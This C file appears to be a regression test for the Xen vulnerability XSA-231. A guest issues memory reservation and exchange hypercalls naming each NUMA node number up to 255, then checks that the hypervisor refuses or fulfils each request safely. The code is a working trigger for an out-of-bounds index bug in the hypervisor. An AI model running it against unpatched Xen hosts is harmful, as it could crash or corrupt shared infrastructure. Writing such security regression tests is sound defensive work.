/* SPDX-License-Identifier: MIT */
/*
 * XSA-231: a NUMA node that does not exist.
 *
 * A request for memory names a node in its flags. Xen used the number as an index without a look at how
 * many nodes there are.
 *
 * This guest asks for pages, by populate_physmap, increase_reservation and exchange, with each number of
 * a node, as a wish and as a must. Each request is carried out or refused, the pages are real, and the
 * audit finds all of them.
 *
 * Run: qemu
 */
#include "../../attack.h"

#include <xen/memory.h>

static xen_pfn_t extent, answer;
static uint32_t mfn; /* the page that comes and goes */

static long reserve(unsigned int op, uint32_t flags)
{
    struct xen_memory_reservation r = {.nr_extents = 1, .mem_flags = flags, .domid = DOMID_SELF};

    set_xen_guest_handle(r.extent_start, &extent);
    return hv_memory_op(op, &r);
}

static long exchange(uint32_t flags)
{
    struct xen_memory_exchange x = {
        .in = {.nr_extents = 1, .domid = DOMID_SELF},
        .out = {.nr_extents = 1, .mem_flags = flags, .domid = DOMID_SELF},
    };

    answer = extent;
    set_xen_guest_handle(x.in.extent_start, &extent);
    set_xen_guest_handle(x.out.extent_start, &answer);
    return hv_memory_op(XENMEM_exchange, &x);
}

/* Give the page away and get one for `pfn` again, by `op`; without a node if that is refused. */
static bool there_and_back(uint32_t pfn, unsigned int op, uint32_t flags)
{
    long got;

    extent = mfn;
    if (reserve(XENMEM_decrease_reservation, 0) != 1)
        return false;
    extent = pfn;
    got = reserve(op, flags);
    if (got == 1 && op == XENMEM_increase_reservation) { /* it came without a pfn */
        if (reserve(XENMEM_decrease_reservation, 0) != 1)
            return false;
        got = 0;
        extent = pfn;
    }
    if (got != 1 && reserve(XENMEM_populate_physmap, 0) != 1)
        return false;
    mfn = extent;
    return true;
}

int main(void)
{
    void *page = page_alloc();
    uint32_t pfn = mfn_to_pfn(linear_to_mfn(page));
    unsigned int bad = 0, refused = 0;

    mfn = linear_to_mfn(page);
    if (hv_update_va_mapping(page, 0, UVMF_INVLPG))
        panic("a page cannot be unmapped");
    for (unsigned int node = 0; node < 256; node++) {
        uint32_t flags = XENMEMF_node(node) | (node & 1 ? XENMEMF_exact_node_request : 0);

        bad += !there_and_back(pfn, XENMEM_populate_physmap, flags);
        bad += !there_and_back(pfn, XENMEM_increase_reservation, flags);
        extent = mfn;
        if (exchange(flags) == 0)
            mfn = answer;
        else
            refused++;
    }
    tap_is(bad, 0, "pages come and go whatever node is named");
    tap_is(hv_update_va_mapping(page, pte_make(mfn, PAGE_KERNEL), UVMF_INVLPG), 0,
           "the last is a page (%u trades refused)", refused);
    *(volatile uint32_t *)page = 231;
    tap_is(*(volatile uint32_t *)page, 231, "with memory in it");
    tap_audit();
    tap_done();
}
